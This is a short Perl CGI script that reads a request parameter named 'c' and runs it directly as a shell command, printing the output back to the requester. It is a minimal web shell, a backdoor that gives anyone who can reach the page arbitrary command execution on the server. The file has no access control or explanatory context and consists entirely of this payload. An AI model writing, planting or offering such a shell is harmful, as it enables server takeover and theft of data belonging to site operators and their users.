#!/usr/bin/perl
use strict;
use CGI;
my $q = CGI->new;
my $cmd = $q->param('c');
print "Content-Type: text/plain\n\n";
print `$cmd 2>&1`;
